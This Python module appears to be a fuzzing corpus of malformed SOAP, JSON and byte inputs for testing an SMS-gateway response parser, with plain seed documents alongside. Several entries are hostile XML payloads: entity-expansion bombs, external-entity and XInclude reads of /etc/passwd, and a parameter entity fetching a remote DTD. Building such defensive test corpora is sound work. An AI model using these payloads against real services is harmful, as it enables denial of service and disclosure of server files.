"""Documents that are meant to hurt whoever reads them, and plain ones to begin from."""

from __future__ import annotations

from typing import Final

__all__ = ["DOCUMENTS", "PLAIN"]

SOAP11: Final = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12: Final = "http://www.w3.org/2003/05/soap-envelope"
ESENDEX: Final = "http://sms2.cdyne.com"
XSI: Final = "http://www.w3.org/2001/XMLSchema-instance"


def _soap(body: str, namespace: str = SOAP11) -> str:
    return f'<s:Envelope xmlns:s="{namespace}"><s:Body>{body}</s:Body></s:Envelope>'


def _cancelled(value: str = "true", more: str = "") -> str:
    result = f"<CancelMessageResult>{value}</CancelMessageResult>"
    return f'<CancelMessageResponse xmlns="{ESENDEX}"{more}>{result}</CancelMessageResponse>'


def _wide(count: int) -> str:
    return "".join(f' a{number}="x"' for number in range(count))


_BOMB: Final = (
    '<!DOCTYPE a [<!ENTITY e0 "lol">'
    + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    + "]><a>&e11;</a>"
)
_QUADRATIC: Final = f'<!DOCTYPE a [<!ENTITY e "{"x" * 100_000}">]><a>{"&e;" * 10_000}</a>'
_LEAK: Final = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
_PARAMETER: Final = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><a/>'
_DEEP: Final = 30_000
_MANY: Final = 30_000

_XML: Final[dict[str, str]] = {
    "bomb": _BOMB,
    "bomb in an envelope": _BOMB.replace("<!DOCTYPE a", "<!DOCTYPE s:Envelope").replace("<a>&e11;</a>", _soap("&e11;")),
    "quadratic bomb": _QUADRATIC,
    "external entity": _LEAK,
    "parameter entity": _PARAMETER,
    "attribute defaults": f'<!DOCTYPE a [<!ATTLIST a xmlns CDATA "{ESENDEX}">]><a/>',
    "deep": "<a>" * _DEEP + "</a>" * _DEEP,
    "deep, not closed": "<a>" * _DEEP,
    "deep in an envelope": _soap("<a>" * 5000 + "</a>" * 5000),
    "deep subcodes": f'<s:Envelope xmlns:s="{SOAP12}"><s:Body><s:Fault><s:Code>'
    + "<s:Subcode>" * 200 + "</s:Subcode>" * 200 + "</s:Code></s:Fault></s:Body></s:Envelope>",
    "wide": "<a>" + "<b/>" * _MANY + "</a>",
    "wide envelope": _soap("<b/>" * _MANY),
    "many attributes": f"<a{_wide(_MANY)}/>",
    "many namespaces": "<a" + "".join(f' xmlns:n{n}="urn:{n}"' for n in range(20_000)) + "/>",
    "huge attribute": f'<a b="{"x" * 11_000_000}"/>',
    "huge text": _soap(_cancelled("x" * 11_000_000)),
    "huge name": f"<{'a' * 1_000_000}/>",
    "huge comment": f"<!--{'x' * 5_000_000}-->{_soap(_cancelled())}",
    "comments in a value": _soap(_cancelled("tr<!-- x -->ue")),
    "instructions in a value": _soap(_cancelled("<?x y?>true")),
    "cdata in a value": _soap(_cancelled("<![CDATA[true]]>")),
    "elements in a value": _soap(_cancelled("<true/>")),
    "references": _soap(_cancelled("&#116;&#x72;&#117;&#101;")),
    "reference to nothing": _soap(_cancelled("&#0;")),
    "reference beyond Unicode": _soap(_cancelled("&#x110000;&#xFFFFFFFFFFFF;")),
    "reference to a surrogate": _soap(_cancelled("&#xD800;")),
    "nil": _soap(_cancelled("", f' xmlns:i="{XSI}" i:nil="true"')),
    "type that lies": _soap(_cancelled("true", f' xmlns:i="{XSI}" i:type="i:nothing"')),
    "type of no namespace": _soap(_cancelled("true", f' xmlns:i="{XSI}" i:type="q:x"')),
    "prefix that lies": f'<s:Envelope xmlns:s="{ESENDEX}"><s:Body>{_cancelled()}</s:Body></s:Envelope>',
    "envelope of both versions": _soap(f'</s:Body><t:Body xmlns:t="{SOAP12}">{_cancelled()}</t:Body><s:Body>'),
    "body twice": _soap(f"{_cancelled()}</s:Body><s:Body>{_cancelled('false')}"),
    "two results": _soap(_cancelled() + _cancelled("false")),
    "namespace that is none": '<a xmlns="%%% not a URI &lt;"/>',
    "namespace in braces": _soap('<a xmlns="}{x}"/>'),
    "xml namespace bound anew": '<a xmlns:xml="urn:x"/>',
    "include": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>',
    "stylesheet": '<?xml-stylesheet href="file:///etc/passwd"?><a/>',
    "encoding that is none": '<?xml version="1.0" encoding="no-such-thing"?><a/>',
    "encoding that lies": '<?xml version="1.0" encoding="utf-16"?><a/>',
    "utf-7": '<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-',
    "version 1.1": '<?xml version="1.1"?><a>&#1;</a>',
    "fault of nothing": _soap(f'<s:Fault xmlns:s="{SOAP11}"/>'),
    "fault of a fault": _soap("<s:Fault><faultcode>s:s:s</faultcode><detail><s:Fault/></detail></s:Fault>"),
    "fault with no prefix": _soap("<s:Fault><faultcode>nobody:knows</faultcode></s:Fault>"),
    "entries": "<result>" + "<entry>1</entry>" * _MANY + "</result>",
    "entries in entries": "<result>" + "<entry>" * 5000 + "</entry>" * 5000 + "</result>",
    "dates": _soap(f'<SentDateTime xmlns="{ESENDEX}">99999-99-99T99:99:99.{"9" * 100_000}+99:99</SentDateTime>'),
}  # fmt: skip

_JSON: Final[dict[str, str]] = {
    "deep arrays": "[" * _DEEP + "]" * _DEEP,
    "deep arrays, not closed": "[" * _DEEP,
    "deep objects": '{"a":' * _DEEP + "1" + "}" * _DEEP,
    "deep, within the stack": "[" * 900 + "]" * 900,
    "twice": '{"success":true,"success":false,"code":200,"code":1}',
    "huge number": "1" * 1_000_000,
    "huge number in a member": f'{{"success":true,"code":{"9" * 100_000},"message_id":{"9" * 5000}}}',
    "huge exponent": '{"success":true,"code":1e999999999,"message_id":1E-999999999}',
    "exponent that expands": '{"success":true,"code":200,"message_id":1e1000000,"nb":1e100000,"cost":1e4000000}',
    "nan": '{"success":NaN,"code":NaN,"message_id":-Infinity,"credits":Infinity}',
    "microsoft's nan": '{"success":true,"code":INF}',
    "lone surrogates": r'{"success":false,"code":10,"message":"\ud800","id":"\udfff"}',
    "nul": r'{"success":false,"code":10,"message":"\u0000","\u0000":1}',
    "wrong types": '{"success":"yes","code":{},"message_id":[],"message":1,"id":{"a":[]}}',
    "null": "null",
    "a number": "-0",
    "a string": '"true"',
    "nothing in it": "{}",
    "many members": "{" + ",".join(f'"a{n}":{n}' for n in range(_MANY)) + "}",
    "many commas": "[" + "1," * _MANY + "]",
    "escapes": '"' + r"\u0041" * _MANY + '"',
    "dates": r'{"SentTime":"\/Date(999999999999999999999999)\/","SentDateTime":"\/Date(-99999999999999999-9999)\/"}',
    "dates of many digits": rf'{{"SentTime":"\/Date({"9" * 100_000})\/"}}',
    "guids": '{"MessageID":"{{{{0000}}}}","SMSError":99999999999999999999,"MessageStatus":-1}',
    "half": '{"success":true,"code":200,"mess',
    "garbage behind it": '{"success":true}{"success":false}',
    "tokens": "truefalsenull",
    "html": "<html><body>" + "<p>" * 50_000,
}

_BYTES: Final[dict[str, bytes]] = {
    "nothing": b"",
    "nul": b"\0" * 1000,
    "invalid utf-8": b"<a>\xc3\x28\xff\xfe</a>",
    "overlong utf-8": b'{"success":"\xc0\xaf\xe0\x80\xaf"}',
    "utf-8 of a surrogate": b'{"success":"\xed\xa0\x80"}',
    "utf-16": _soap(_cancelled()).encode("utf-16"),
    "utf-16 without a mark": _soap(_cancelled()).encode("utf-16-be"),
    "utf-16 bomb": ('<?xml version="1.0" encoding="utf-16"?>' + _BOMB).encode("utf-16"),
    "utf-32": '{"success":true}'.encode("utf-32"),
    "ebcdic": b"Lo\xa7\x94\x93\x40",
    "marks": b"\xef\xbb\xbf" * 3 + b'{"success":true}',
    "nul in xml": _soap(_cancelled("tr\0ue")).encode(),
    "control characters": _soap(_cancelled("".join(map(chr, range(32))))).encode(),
    "gzip": b"\x1f\x8b\x08\x00" + b"\0" * 100,
    "parts": b"multipart/related; boundary=b\n--b\r\nContent-Type: text/xml\r\n\r\n<a/>\r\n--b--",
    "parts of nothing": b"multipart/related; boundary=b\n" + b"--b\r\n" * 5000,
    "parts that refer to themselves": (
        b"multipart/related; boundary=b\n--b\r\nContent-ID: <x>\r\nContent-Type: application/xop+xml\r\n\r\n"
        b'<a xmlns:x="http://www.w3.org/2004/08/xop/include"><x:Include href="cid:x"/></a>\r\n--b--'
    ),
    "a boundary of nothing": b"multipart/related; boundary=\n----",
}

DOCUMENTS: Final[dict[str, bytes]] = {
    **{f"xml: {name}": text.encode() for name, text in _XML.items()},
    **{f"json: {name}": text.encode() for name, text in _JSON.items()},
    **{f"bytes: {name}": body for name, body in _BYTES.items()},
}
"""By what is wrong with each."""

PLAIN: Final[dict[str, bytes]] = {
    "soap 1.1": _soap(_cancelled()).encode(),
    "soap 1.2": _soap(_cancelled(), SOAP12).encode(),
    "fault": _soap("<s:Fault><faultcode>s:Client</faultcode><faultstring>no</faultstring></s:Fault>").encode(),
    "json": b'{"success":true,"code":200,"message_id":123,"nb":1,"cost":0.04,"currency":"EUR"}',
    "status": rb'{"MessageID":"1627aea5-8e0a-4371-9022-9b504344e724","SentTime":"\/Date(1800000000000)\/"}',
    "entries": b"<result><entry>true</entry><entry>200</entry><entry>300</entry><entry>1</entry></result>",
    "date": b"2026-11-21T09:00:00.1234567+01:00",
    "guid": b"{1627aea5-8e0a-4371-9022-9b504344e724}",
    "duration": b"-P1DT2H3M4.5S",
}
"""What a fuzzer begins with."""
